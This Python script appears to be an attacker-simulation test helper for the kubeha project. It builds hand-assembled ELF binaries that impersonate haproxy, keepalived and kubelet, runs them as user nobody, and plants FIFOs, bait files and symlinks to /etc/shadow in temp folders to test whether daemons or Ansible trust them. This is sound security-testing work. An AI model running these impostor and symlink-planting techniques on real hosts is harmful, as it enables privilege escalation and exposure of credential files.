#!/usr/bin/env python3
# Copyright (c) 2026, the kubeha.apiserver authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Be an attacker on this host: user `nobody` runs programs that call themselves haproxy and keepalived.

    impostor.py build FOLDER     the program, as FOLDER/haproxy and FOLDER/keepalived
    impostor.py start            run it under many names, and plant files where daemons and Ansible might step on them
    impostor.py look             as JSON: how many run, and what was left by other users who have executed it

The program waits if `nobody` runs it, and any signal ends it. Run by anybody else it leaves a file as a proof, and says
that all is well.
"""

from __future__ import annotations

import contextlib
import json
import os
import struct
import subprocess
import sys

NOBODY = 65534
FOLDER = "/var/lib/impostor"
PROOF = FOLDER + "/proof/%s"
RUN = (
    ("haproxy", "-f /tmp/evil.cfg"),
    ("haproxy", "-Ws -f /etc/haproxy/haproxy.cfg -p /run/haproxy.pid"),
    ("haproxy", "-W -db -f /etc/kubeha/haproxy/haproxy.cfg"),
    ("keepalived", "--dont-fork -f /tmp/evil.cfg"),
    ("keepalived", "--dont-fork"),
    ("keepalived", "--dont-fork -f /etc/kubeha/keepalived/keepalived.conf"),
    ("kubelet", "--pod-manifest-path=/tmp/manifests --config=/tmp/fifo"),
)
FOLDERS = ("/tmp", "/dev/shm", "/var/tmp", "/tmp/.config", "/tmp/.cache", "/tmp/.local/state")
PLANTED = ("keepalived.json", "keepalived.data", "keepalived.stats", "keepalived_parent.data", "haproxy.cfg", "kubeha",
           "haproxy.sock", "keepalived.conf", ".ansible")


def x86_64(proof: str) -> bytes:
    creates = b"\xb8\x02\0\0\0" + b"\x48\x8d\x3d%s" + b"\xbe\x41\0\0\0" + b"\xba\xb6\x01\0\0" + b"\x0f\x05"
    leaves = b"\xb8\x3c\0\0\0" + b"\x31\xff" + b"\x0f\x05"
    waits = b"\xb8\x22\0\0\0" + b"\x0f\x05" + b"\xeb\xf7"
    size = len(creates) - 2 + 4
    # From behind the instruction that takes the path's place to the path, behind all of this.
    path = struct.pack("<i", size - 12 + len(leaves) + len(waits))
    code = b"\xb8\x66\0\0\0" + b"\x0f\x05" + b"\x3d" + struct.pack("<I", NOBODY) + b"\x74"
    code += bytes([size + len(leaves)]) + creates % path + leaves + waits
    return elf(62, code + proof.encode() + b"\0")


def aarch64(proof: str) -> bytes:
    def words(*codes: int) -> bytes:
        return struct.pack("<%dI" % len(codes), *codes)

    def number(register: int, value: int) -> int:
        return 0xD2800000 | value << 5 | register

    svc = 0xD4000001
    creates = [0x92800C60, 0, number(2, 0x41), number(3, 0o666), number(8, 56), svc]  # openat(AT_FDCWD, path, …)
    leaves = [number(0, 0), number(8, 93), svc]
    waits = [number(0, 0), number(1, 0), number(2, 0), number(3, 0), number(8, 73), svc, 0x17FFFFFA]  # ppoll, again
    path = 4 * (len(creates) - 1 + len(leaves) + len(waits))
    creates[1] = 0x10000001 | path // 4 << 5  # adr x1
    head = [number(8, 174), svc, number(1, NOBODY), 0xEB01001F, 0x54000000 | (len(creates) + len(leaves) + 1) << 5]
    return elf(183, words(*head, *creates, *leaves, *waits) + proof.encode() + b"\0")


def elf(machine: int, code: bytes) -> bytes:
    """One segment that is read and executed, right behind the headers. No compiler is needed."""
    base, begin = 0x400000, 64 + 56
    head = b"\x7fELF\2\1\1" + bytes(9)
    head += struct.pack("<HHIQQQIHHHHHH", 2, machine, 1, base + begin, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    size = begin + len(code)
    return head + struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000) + code


def build(folder: str) -> None:
    make = {"x86_64": x86_64, "aarch64": aarch64}[os.uname().machine]
    os.makedirs(folder, 0o755, exist_ok=True)
    os.chmod(folder, 0o755)
    os.makedirs(os.path.dirname(PROOF), exist_ok=True)
    os.chmod(os.path.dirname(PROOF), 0o1777)
    for name in ("haproxy", "keepalived", "kubelet"):
        path = os.path.join(folder, name)
        with open(path, "wb") as file:
            file.write(make(PROOF % name))
        os.chmod(path, 0o755)
        os.chown(path, NOBODY, NOBODY)


def start() -> None:
    """Each in a mount namespace of its own, with other files where ours are."""
    build(FOLDER)
    # That what it would leave is left, and seen.
    subprocess.run([FOLDER + "/haproxy", "-c"], check=True)
    os.unlink(PROOF % "haproxy")
    plant()
    for name, arguments in RUN:
        words = " ".join(("exec -a", name, os.path.join(FOLDER, name), arguments))
        script = "for d in /etc/haproxy /etc/kubeha; do mount --bind %s $d 2>/dev/null; done; " % FOLDER
        script += "exec setpriv --reuid=%d --regid=%d --clear-groups bash -c '%s'" % (NOBODY, NOBODY, words)
        subprocess.Popen(["unshare", "--mount", "sh", "-c", script], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd="/")


def plant() -> None:
    """As nobody would: what is there already stays."""
    if os.fork():
        os.wait()
        return
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    for folder in FOLDERS:
        with contextlib.suppress(OSError):
            os.makedirs(folder, exist_ok=True)
        for number, name in enumerate((*PLANTED, "fifo", "evil.cfg")):
            path = os.path.join(folder, name)
            with contextlib.suppress(OSError):
                if name == "fifo" or number % 3 == 0:
                    os.mkfifo(path, 0o666)
                elif number % 3 == 1:
                    os.symlink("/etc/shadow", path)
                else:
                    with open(path, "x", encoding="utf-8") as file:
                        file.write("evil\n")
    os._exit(0)


def look() -> dict[str, object]:
    running = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError), open("/proc/%s/status" % pid, encoding="utf-8") as file:
            status = dict(line.rstrip("\n").split(":\t", 1) for line in file)
            running += status["Name"] in {name for name, arguments in RUN} and status["Uid"].split()[0] == str(NOBODY)
    shadow = os.stat("/etc/shadow")
    return {"running": running, "proofs": sorted(os.listdir(os.path.dirname(PROOF))),
            "shadow": [oct(shadow.st_mode & 0o777), shadow.st_uid]}


def main() -> None:
    if sys.argv[1:2] == ["build"]:
        build(sys.argv[2])
    elif sys.argv[1:] == ["start"]:
        start()
    elif sys.argv[1:] == ["look"]:
        print(json.dumps(look()))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
